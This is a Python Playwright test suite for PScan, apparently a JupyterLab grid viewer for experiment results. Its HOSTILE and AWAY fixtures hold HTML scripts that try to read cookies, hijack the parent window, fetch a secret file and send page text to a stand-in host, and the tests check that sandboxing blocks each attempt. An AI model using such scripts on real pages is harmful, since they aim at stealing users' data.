"""PScan in a real JupyterLab: opened from a folder, flipped by keys, told by its address, unharmed by its files."""

from __future__ import annotations

import json
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from playwright.sync_api import FrameLocator, Page, expect

from tests.browser.played import AXE, serious
from tests.lab.pscan.served import GREEN, TOKEN, lab
from tests.web.harness import until

HOSTILE = """<!doctype html><p id=said>written</p><form action=/logout method=post><button>x</button></form>
<script>
  document.getElementById("said").textContent = "ran";
  const tried = {};
  const attempt = (name, act) => { try { act(); tried[name] = "done"; } catch { tried[name] = "refused"; } };
  attempt("cookie", () => document.cookie);
  attempt("storage", () => localStorage.setItem("a", "b"));
  attempt("parent", () => { parent.document.title = "taken"; });
  attempt("top", () => { top.location = "/taken"; });
  attempt("popup", () => { if (!open("/taken")) throw new Error(); });
  fetch("/api/contents/secret.txt").then(() => "done", () => "refused").then((way) => {
    tried.fetch = way;
    document.getElementById("said").textContent = JSON.stringify(tried);
  });
</script>
<img src="/taken.png">"""
AWAY = "<p>loss 1</p><script>location = 'http://127.0.0.1:9/?' + document.body.textContent</script>"
PDF = b"""%PDF-1.1
1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>endobj
trailer<</Root 1 0 R>>"""


@pytest.fixture(scope="module")
def work(tmp_path_factory: pytest.TempPathFactory) -> Path:
    made = Path(tmp_path_factory.mktemp("work"))
    for lr in ("0.1", "1e-3"):
        for bs in (8, 16, 128):
            for seed in range(4):
                folder = made / "runs" / f"lr={lr}" / f"bs={bs}"
                folder.mkdir(parents=True, exist_ok=True)
                (folder / f"seed={seed}.png").write_bytes(GREEN)
    (made / "runs" / "lr=0.1" / "bs=8" / "seed=2.png").unlink()
    (made / "runs" / "notes.md").touch()
    kinds = made / "kinds"
    kinds.mkdir()
    (kinds / "text.log").write_text("<b>epoch 1</b>\n")
    (kinds / "table.csv").write_text("name,score\nann,<i>1\n")
    (kinds / "plot.jsonl").write_text('{"step": 0, "loss": 2}\n{"step": 1, "loss": 1}\n')
    (kinds / "page.html").write_text(HOSTILE)
    (kinds / "paper.pdf").write_bytes(PDF)
    (kinds / "picture.png").write_bytes(GREEN)
    (made / "secret.txt").write_text("secret")
    (made / "away").mkdir()
    (made / "away" / "n=1.html").write_text(AWAY)
    (made / "long").mkdir()
    for step in range(600):
        (made / "long" / f"lr=1,step={step}.png").write_bytes(GREEN)
    return made


@pytest.fixture(scope="module")
def url(work: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    with lab(work, Path(tmp_path_factory.mktemp("home"))) as found:
        yield found


@pytest.fixture
def open_page(url: str, new_page: Callable[..., Page]) -> Callable[..., Page]:
    """Opens a page of the owner's."""

    def make(path: str, **options: object) -> Page:
        page = new_page(**options)
        page.goto(f"{url}api/status?token={TOKEN}")  # from now on by its cookie
        page.goto(url + path)
        return page

    return make


def shown(page: Page | FrameLocator) -> list[str]:
    """The paths of the pictures in the grid, row by row."""
    return page.locator("td[data-row] > img").evaluate_all("all => all.map((one) => one.alt)")


def shows(page: Page | FrameLocator, *paths: str) -> None:
    until(lambda: shown(page) == list(paths))


def value(page: Page, axis: str) -> str:
    return page.locator(f"#axis-output-{axis}").inner_text()


LOOK = "pscan?root=runs&pattern=lr%3D%7Blr%7D%2Fbs%3D%7Bbs%7D%2Fseed%3D%7Bseed%7D.png&rows=lr&columns="


# -- in JupyterLab ------------------------------------------------------------------------------------------------


def test_a_folder_is_opened_in_jupyterlab_and_found_again_after_a_reload(open_page: Callable[..., Page]):
    page = open_page("lab")
    page.locator(".jp-DirListing-item", has_text="runs").click(button="right")
    page.get_by_text("Open in PScan").click()
    inside = page.frame_locator(".jp-IFrame iframe")
    expect(inside.locator("td[data-row] > img")).to_have_count(6)
    expect(inside.get_by_label("Pattern")).to_have_value("lr={lr}/bs={bs}/seed={seed}.png")
    expect(page.locator(".lm-TabBar-tabLabel", has_text="runs · PScan")).to_be_visible()
    page.keyboard.press("ArrowRight")
    expect(inside.locator("#axis-output-seed")).to_have_text("1")
    with page.expect_response(lambda answer: "/api/workspaces/" in answer.url and answer.request.method == "PUT"):
        pass  # what JupyterLab keeps of it
    page.reload()
    expect(inside.locator("#axis-output-seed")).to_have_text("1", timeout=60_000)
    expect(inside.locator("td[data-row] > img")).to_have_count(6)


def test_it_is_a_tile_of_the_launcher_and_follows_the_theme(open_page: Callable[..., Page]):
    page = open_page("lab?reset")
    page.locator(".jp-LauncherCard", has_text="PScan").click()
    inside = page.frame_locator(".jp-IFrame iframe")
    expect(inside.locator("#grid")).to_contain_text("Name a folder with results")
    expect(inside.locator("html")).to_have_attribute("data-theme", "light")
    page.evaluate("document.body.dataset.jpThemeLight = 'false'")
    expect(inside.locator("html")).to_have_attribute("data-theme", "dark")


# -- axes and keys ------------------------------------------------------------------------------------------------


def test_a_folder_without_a_pattern_gets_one_and_says_what_is_missing(open_page: Callable[..., Page]):
    page = open_page("pscan")
    page.get_by_label("Folder").fill("runs")
    page.get_by_role("button", name="Show").click()
    expect(page.locator("#counts")).to_contain_text("23 of 24 files match · 1 combination missing")
    page.locator("#counts summary").click()
    expect(page.locator("#counts li")).to_have_text(["notes.md"])
    expect(page.locator("thead th")).to_have_text(["bs 8", "bs 16", "bs 128"])
    expect(page.locator("tbody th")).to_have_text(["lr 1e-3", "lr 0.1"])


def test_keys_flip_through_the_values_and_the_address_tells_what_is_seen(open_page: Callable[..., Page]):
    page = open_page(LOOK)
    shows(page, "lr=1e-3/bs=8/seed=0.png", "lr=0.1/bs=8/seed=0.png")
    expect(page.locator(".axis[data-active]")).to_have_attribute("data-axis", "bs")
    page.keyboard.press("ArrowRight")
    shows(page, "lr=1e-3/bs=16/seed=0.png", "lr=0.1/bs=16/seed=0.png")
    page.keyboard.press("End")
    page.keyboard.press("2")
    page.keyboard.press("ArrowRight")
    shows(page, "lr=1e-3/bs=128/seed=1.png", "lr=0.1/bs=128/seed=1.png")
    page.keyboard.press("ArrowLeft")
    page.keyboard.press("ArrowLeft")
    shows(page, "lr=1e-3/bs=128/seed=0.png", "lr=0.1/bs=128/seed=0.png")
    page.keyboard.press("ArrowRight")
    until(lambda: "at.seed=1" in page.url and "at.bs=128" in page.url)
    other = open_page(page.url.split("/", 3)[3])
    shows(other, "lr=1e-3/bs=128/seed=1.png", "lr=0.1/bs=128/seed=1.png")


def test_what_there_is_no_file_for_is_an_empty_place(open_page: Callable[..., Page]):
    page = open_page(LOOK + "&at.seed=2&at.bs=8")
    shows(page, "lr=1e-3/bs=8/seed=2.png")
    expect(page.locator("td[data-row] > .missing")).to_have_count(1)


def test_an_axis_becomes_columns_or_fixed_and_keys_leave_a_fixed_one_alone(open_page: Callable[..., Page]):
    page = open_page(LOOK)
    page.get_by_label("Role of bs").select_option("Columns")
    expect(page.locator("td[data-row] > img")).to_have_count(6)
    page.get_by_label("Role of seed").select_option("Fixed")
    expect(page.locator("#keys")).to_have_text("")
    page.keyboard.press("ArrowRight")
    page.get_by_label("seed", exact=True).select_option("3")
    until(lambda: all(path.endswith("seed=3.png") for path in shown(page)))
    until(lambda: "fixed=seed" in page.url and "columns=bs" in page.url)
    page.get_by_label("Role of lr").select_option("Columns")
    expect(page.locator("thead th").first).to_have_text("bs 8lr 1e-3")
    expect(page.locator("td[data-row] > img")).to_have_count(6)


def test_an_axis_with_very_many_values_is_a_slider_also_where_it_is_fixed(open_page: Callable[..., Page]):
    page = open_page(
        "pscan?root=long&pattern=lr%3D%7Blr%7D,step%3D%7Bstep%7D.png&rows=lr&columns=&fixed=step&at.step=599"
    )
    expect(page.get_by_role("slider", name="step")).to_have_attribute("aria-valuetext", "599")
    page.get_by_role("slider", name="step").focus()
    page.keyboard.press("ArrowLeft")
    shows(page, "lr=1,step=598.png")


def test_a_slider_is_moved_by_itself(open_page: Callable[..., Page]):
    page = open_page(LOOK)
    slider = page.get_by_role("slider", name="seed")
    slider.focus()
    page.keyboard.press("ArrowRight")
    shows(page, "lr=1e-3/bs=8/seed=1.png", "lr=0.1/bs=8/seed=1.png")
    expect(slider).to_be_focused()
    page.keyboard.press("1")
    expect(page.locator(".axis[data-active]")).to_have_attribute("data-axis", "bs")


def test_what_can_not_be_shown_is_said_and_mended(open_page: Callable[..., Page]):
    page = open_page(LOOK)
    shows(page, "lr=1e-3/bs=8/seed=0.png", "lr=0.1/bs=8/seed=0.png")
    page.get_by_label("Pattern").fill("(?P<x>")
    page.get_by_role("button", name="Show").click()
    expect(page.locator("#trouble")).to_contain_text("is none of RE2")
    expect(page.locator("td")).to_have_count(0)
    page.get_by_role("button", name="Propose").click()
    expect(page.get_by_label("Pattern")).to_have_value("lr={lr}/bs={bs}/seed={seed}.png")
    expect(page.locator("td[data-row] > img")).to_have_count(6)
    expect(page.locator("#trouble")).to_have_text("")
    page.go_back()
    expect(page.get_by_label("Pattern")).to_have_value("(?P<x>")


def test_a_file_is_enlarged_and_flipped_there(open_page: Callable[..., Page]):
    page = open_page(LOOK)
    page.locator("td[data-row] > img").first.click()
    expect(page.locator("#zoom-path")).to_have_text("lr=1e-3/bs=8/seed=0.png")
    page.keyboard.press("ArrowRight")
    expect(page.locator("#zoom-path")).to_have_text("lr=1e-3/bs=16/seed=0.png")
    page.get_by_role("button", name="The value before").click()
    expect(page.locator("#zoom-path")).to_have_text("lr=1e-3/bs=8/seed=0.png")
    page.keyboard.press("Escape")
    expect(page.locator("#zoom")).to_be_hidden()


def test_new_results_are_there_when_one_looks_again(open_page: Callable[..., Page], work: Path):
    growing = work / "growing"
    growing.mkdir()
    for n in (1, 2):
        (growing / f"epoch_{n}.png").write_bytes(GREEN)
    page = open_page("pscan?root=growing")
    expect(page.locator("#counts")).to_contain_text("2 of 2 files")
    (growing / "epoch_10.png").write_bytes(GREEN)
    page.locator("#again").click()
    expect(page.locator("#counts")).to_contain_text("3 of 3 files")
    expect(page.locator("thead th")).to_have_text(["epoch 1", "epoch 2", "epoch 10"])


# -- kinds of files -----------------------------------------------------------------------------------------------


def test_every_kind_of_file_is_shown_and_none_does_any_harm(
    open_page: Callable[..., Page], url: str, complaints: list[str]
):
    page = open_page("pscan?root=kinds&pattern=%7Bname%7D.%7Bext%7D&rows=name&columns=")
    answered: list[str] = []
    page.on("response", lambda answer: answered.append(answer.url))
    page.get_by_label("Role of name").select_option("Slider")
    for name, ext, inside in (
        ("text", "log", ".text pre"), ("table", "csv", ".text td"), ("plot", "jsonl", ".text svg"),
        ("page", "html", "iframe[sandbox='']"), ("paper", "pdf", "iframe"), ("picture", "png", "img"),
    ):  # fmt: skip
        page.goto(f"{url}pscan?root=kinds&pattern=%7Bname%7D.%7Bext%7D&rows=&columns=&at.name={name}&at.ext={ext}")
        expect(page.locator(f"td[data-row] > {inside}").first).to_be_visible()
        if name == "page":
            expect(page.frame_locator("td iframe").locator("#said")).to_have_text("written")
    assert not [one for one in answered if "taken" in one or "secret" in one]
    complaints.clear()  # of the picture that the page asks for


def test_scripts_of_html_reach_nothing_when_they_are_let_run(
    open_page: Callable[..., Page], complaints: list[str]
):  # fmt: skip
    page = open_page("pscan?root=kinds&pattern=%7Bname%7D.html&rows=name&columns=")
    expect(page.frame_locator("td iframe").locator("#said")).to_have_text("written")
    before = page.url.split("?")[0]
    reached: list[str] = []
    page.on("response", lambda answer: reached.append(answer.url) if "taken" in answer.url else None)
    page.get_by_label("Scripts in HTML").check()
    said = page.frame_locator("td iframe").locator("#said")
    expect(said).to_contain_text("fetch")
    tried = json.loads(said.inner_text())
    assert tried == dict.fromkeys(("cookie", "storage", "parent", "top", "popup", "fetch"), "refused")
    assert page.title() == "kinds · PScan"
    assert page.url.split("?")[0] == before
    assert "scripts=1" in page.url
    assert not reached
    complaints.clear()  # of what the file tried


def test_scripts_of_html_carry_nothing_away_by_going_elsewhere_themselves(
    open_page: Callable[..., Page], url: str, complaints: list[str]
):
    page = open_page("pscan")
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    with page.expect_console_message(lambda said: "frame-src 'self'" in said.text):
        page.goto(f"{url}pscan?root=away&scripts=1")
    assert not [one for one in asked if ":9/" in one]
    complaints.clear()


def test_an_export_shows_the_same_without_a_server(open_page: Callable[..., Page], new_page: Callable[..., Page],
                                                  complaints: list[str], tmp_path: Path):  # fmt: skip
    page = open_page("pscan?root=kinds&pattern=%7Bname%7D.%7Bext%7D&rows=name&columns=ext")
    expect(page.locator("#grid > table > tbody > tr")).to_have_count(6)
    with page.expect_download() as download:
        page.get_by_role("link", name="Export").click()
    kept = tmp_path / "view.html"
    download.value.save_as(kept)
    alone = new_page(offline=True)
    alone.goto(kept.as_uri())
    expect(alone.locator(".grid > tbody > tr")).to_have_count(6)
    assert alone.locator("img").evaluate("image => image.naturalWidth") == 1
    expect(alone.locator("svg")).to_have_count(1)
    expect(alone.locator("pre")).to_have_text("<b>epoch 1</b>\n")
    expect(alone.frame_locator("iframe").locator("#said")).to_have_text("written")
    complaints.clear()  # of the picture that the page in it asks for


@pytest.mark.parametrize(("theme", "width"), [("light", 1280), ("dark", 390)])
def test_nothing_keeps_anybody_from_using_it(open_page: Callable[..., Page], theme: str, width: int):
    if not AXE.exists():
        pytest.skip("axe-core is not installed: tools/npm.sh ci")
    look = {"color_scheme": theme, "viewport": {"width": width, "height": 844}}
    page = open_page(LOOK.replace("columns=", "columns=bs"), bypass_csp=True, **look)
    expect(page.locator("td[data-row] > img")).to_have_count(6)
    page.locator("#counts summary").click()
    assert serious(page, "body") == []
    assert page.evaluate("document.scrollingElement.scrollWidth") <= width
    page.locator("td[data-row] > img").first.click()
    expect(page.locator("#zoom")).to_be_visible()
    assert serious(page, "#zoom") == []
    assert page.evaluate("document.getElementById('zoom').scrollWidth") <= width


# -- very many ----------------------------------------------------------------------------------------------------

FIRST = """async () => {
  const pictures = () => [...document.querySelectorAll("td[data-row] > img")];
  while (!pictures().some((one) => one.complete && one.naturalWidth)) await new Promise(requestAnimationFrame);
  return performance.now();
}"""
FLIP = """async (key) => {
  const places = () => [...document.querySelectorAll("td[data-row]:not([data-stale])")];
  const before = places()[0].querySelector("img").alt;
  const begin = performance.now();
  document.body.dispatchEvent(new KeyboardEvent("keydown", { key, bubbles: true }));
  const done = () => places().every((one) => one.querySelector("img")?.complete && !one.dataset.loading)
    && places()[0].querySelector("img").alt !== before;
  while (!done()) await new Promise(requestAnimationFrame);
  return performance.now() - begin;
}"""


@pytest.mark.faults
def test_a_hundred_thousand_files_are_browsed(open_page: Callable[..., Page], work: Path, url: str):
    for a, b, c in ((a, b, c) for a in range(10) for b in range(10) for c in range(10)):
        folder = work / "many" / f"lr={a / 10}" / f"bs={2**b}" / f"wd={c}"
        folder.mkdir(parents=True)
        for seed in range(100):
            (folder / f"seed={seed}.png").write_bytes(GREEN)
    page = open_page("pscan")
    page.goto(f"{url}pscan?root=many", wait_until="commit")
    first = page.evaluate(FIRST)
    expect(page.locator("#counts")).to_contain_text("100,000 of 100,000 files match · no combination missing")
    at_once = [page.evaluate(FLIP, "ArrowRight") for _ in range(4)]
    paused = []
    for _ in range(4):
        time.sleep(1)  # as somebody who looks
        paused.append(page.evaluate(FLIP, "ArrowRight"))
    print(
        f"\n100,000 files, ms: first picture {first:.0f}; flips at once {said(at_once)}; after a look {said(paused)}"
    )


def said(times: list[float]) -> str:
    return ", ".join(f"{ms:.0f}" for ms in times)
